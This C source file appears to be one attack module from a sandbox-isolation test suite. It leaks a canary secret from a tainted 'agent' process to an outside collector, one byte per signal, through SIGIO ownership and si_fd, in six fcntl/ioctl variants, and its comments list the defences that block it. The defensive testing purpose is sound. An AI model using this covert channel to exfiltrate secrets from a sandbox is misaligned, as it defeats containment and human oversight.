// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* sigio_owner - signals carry data without any signal syscall: the agent makes an outsider (the
 * collector) the owner of one of its own pipes or sockets (fcntl(2) F_SETOWN / F_SETOWN_EX,
 * ioctl FIOSETOWN / SIOCSPGRP), picks a realtime signal with F_SETSIG and turns on O_ASYNC; every
 * time it makes the object readable, the kernel queues that signal to the owner with the fd
 * number in si_fd (send_sigio, fs/fcntl.c). The agent dup2()s the object to fd 256 + byte before
 * each event, so each signal carries one byte (fcntl(2), "F_SETSIG"; docs/threat-model.md,
 * "other processes"). Variants, each sending "<tag>:<canary>;":
 *   P  F_SETOWN pid (set before the taint, events after it)   G  F_SETOWN -pgrp
 *   T  F_SETOWN_EX F_OWNER_TID                                R  F_SETOWN_EX F_OWNER_PGRP
 *   I  ioctl FIOSETOWN on a socket                            S  ioctl SIOCSPGRP -pgrp on a socket
 * Verifier: the collector records si_fd - 256 of each ATK_SIGIO_SIG it receives.
 * Blocks it: Landlock's signal scope (ABI >= 6) judges file_send_sigiotask by the domain of the
 * task that set the owner; the lsm backend's file_send_sigiotask hook judges the destination
 * task against the taint of the agent that set the owner (docs/lsm.md); DAC for another uid
 * (the owner's uid must match the target's, sigio_perm). */
#include <fcntl.h>
#include <signal.h>
#include <sys/ioctl.h>

#include "atk.h"

enum how { OWN_PID, OWN_PGRP_NEG, OWN_TID, OWN_PGRP_EX, OWN_FIOSETOWN, OWN_SIOCSPGRP };

struct variant {
    char tag;
    enum how how;
    int pre_taint; /* owner set before the recv, events after it */
    int sock;      /* a socketpair (ioctls need a socket), else a pipe */
    const char *what;
};

static const struct variant V[] = {
    {'P', OWN_PID, 1, 0, "F_SETOWN(pid) before taint"},
    {'G', OWN_PGRP_NEG, 0, 0, "F_SETOWN(-pgrp)"},
    {'T', OWN_TID, 0, 0, "F_SETOWN_EX(F_OWNER_TID)"},
    {'R', OWN_PGRP_EX, 0, 0, "F_SETOWN_EX(F_OWNER_PGRP)"},
    {'I', OWN_FIOSETOWN, 0, 1, "FIOSETOWN"},
    {'S', OWN_SIOCSPGRP, 0, 1, "SIOCSPGRP(-pgrp)"},
};
#define NV ((int)(sizeof(V) / sizeof(V[0])))

static long set_owner(int fd, enum how how, pid_t cpid)
{
    struct f_owner_ex ex = {.pid = cpid};
    int p = cpid;
    switch (how) {
    case OWN_PID: return fcntl(fd, F_SETOWN, cpid);
    case OWN_PGRP_NEG: return fcntl(fd, F_SETOWN, -cpid);
    case OWN_TID: ex.type = F_OWNER_TID; return fcntl(fd, F_SETOWN_EX, &ex);
    case OWN_PGRP_EX: ex.type = F_OWNER_PGRP; return fcntl(fd, F_SETOWN_EX, &ex);
    case OWN_FIOSETOWN: return ioctl(fd, FIOSETOWN, &p);
    case OWN_SIOCSPGRP: p = -cpid; return ioctl(fd, SIOCSPGRP, &p);
    }
    errno = EINVAL;
    return -1;
}

/* rx[i]/tx[i]: the pipe of a pipe variant (read end whose owner is the collector, write end) */
static int rx[NV], tx[NV];

/* A fresh object for variant i with the collector as owner and ATK_SIGIO_SIG as its signal.
 * Notes the outcome of each step only when `say` (the first time). */
static int setup(struct atk_ctx *c, int i, pid_t cpid, int say)
{
    int p[2];
    char w[64];
    snprintf(w, sizeof(w), "%c %s", V[i].tag, V[i].sock ? "socketpair" : "pipe");
    long r = V[i].sock ? socketpair(AF_UNIX, SOCK_STREAM, 0, p) : pipe(p);
    if ((say ? atk_try(c, w, r) : r) < 0)
        return -1;
    rx[i] = p[0];
    tx[i] = p[1];
    snprintf(w, sizeof(w), "%c %s", V[i].tag, V[i].what);
    r = set_owner(rx[i], V[i].how, cpid);
    if ((say ? atk_try(c, w, r) : r) < 0)
        return -1;
    snprintf(w, sizeof(w), "%c F_SETSIG", V[i].tag);
    r = fcntl(rx[i], F_SETSIG, ATK_SIGIO_SIG);
    return (int)(say ? atk_try(c, w, r) : r);
}

/* One byte out through variant i: the read end at fd 256 + b, O_ASYNC (re)registered on that fd
 * so that si_fd names it, then one event. A pipe gets a byte written (and drained, so the next
 * write is an event again). A socket gets a new pair for every byte and the event is the peer's
 * shutdown(SHUT_WR) (unix_shutdown wakes the reader with POLL_IN): no send, which the lsm
 * backend would judge as a send of its own. */
static int send_byte(struct atk_ctx *c, int i, unsigned char b, pid_t cpid)
{
    if (V[i].sock && setup(c, i, cpid, 0) < 0)
        return -1;
    int fd = ATK_SIGIO_FD_BASE + b, rc = -1;
    if (dup2(rx[i], fd) < 0)
        goto out;
    int fl = fcntl(fd, F_GETFL);
    if (fl < 0 || fcntl(fd, F_SETFL, (fl & ~O_ASYNC) | O_NONBLOCK) < 0 ||
        fcntl(fd, F_SETFL, fl | O_ASYNC | O_NONBLOCK) < 0)
        goto out;
    if (V[i].sock) {
        rc = shutdown(tx[i], SHUT_WR);
    } else {
        char d;
        rc = write(tx[i], "x", 1) == 1 ? 0 : -1;
        if (rc == 0 && read(fd, &d, 1) < 0) { /* drained or not, the event has happened */
        }
    }
out:;
    int e = errno;
    close(fd);
    if (V[i].sock) {
        close(rx[i]);
        close(tx[i]);
    }
    errno = e;
    return rc;
}

static int agent(struct atk_ctx *c)
{
    pid_t cpid = (pid_t)atk_argl(c, "cpid");
    int ok[NV];
    for (int i = 0; i < NV; i++)
        ok[i] = V[i].pre_taint ? setup(c, i, cpid, 1) == 0 : 0;
    atk_recv(c);
    for (int i = 0; i < NV; i++) {
        if (V[i].pre_taint)
            continue;
        ok[i] = setup(c, i, cpid, 1) == 0;
        if (V[i].sock) { /* that one was only to note the steps: send_byte makes one per byte */
            close(rx[i]);
            close(tx[i]);
        }
    }
    char msg[300];
    for (int i = 0; i < NV; i++) {
        if (!ok[i])
            continue;
        int n = snprintf(msg, sizeof(msg), "%c:%s;", V[i].tag, c->secret);
        int err = 0;
        for (int k = 0; k < n && k < (int)sizeof(msg) - 1; k++)
            if (send_byte(c, i, (unsigned char)msg[k], cpid) < 0 && !err)
                err = errno ? errno : EIO;
        atk_note(c, "%c events: %s", V[i].tag, atk_errname(err));
    }
    return 0;
}

/* Which variants got through (the generic check already found the canary itself). */
static void verify(struct atk_ctx *c)
{
    char gp[700];
    static char buf[1 << 16];
    snprintf(gp, sizeof(gp), "%s/got", c->dir);
    FILE *f = fopen(gp, "r");
    if (!f)
        return;
    size_t n = fread(buf, 1, sizeof(buf) - 1, f);
    fclose(f);
    buf[n] = 0;
    for (int i = 0; i < NV; i++) {
        char needle[64];
        snprintf(needle, sizeof(needle), "%c:%s;", V[i].tag, c->canary);
        if (atk_buf_has(buf, n, needle))
            atk_evidence(c, "si_fd bytes via %s", V[i].what);
    }
}

static const struct atk A = {"sigio_owner", "SIGIO with si_fd to an outsider made the owner of the agent's pipe/socket",
                             ATK_NO_RECV, NULL, agent, NULL, verify, NULL};
ATK_MAIN(A)
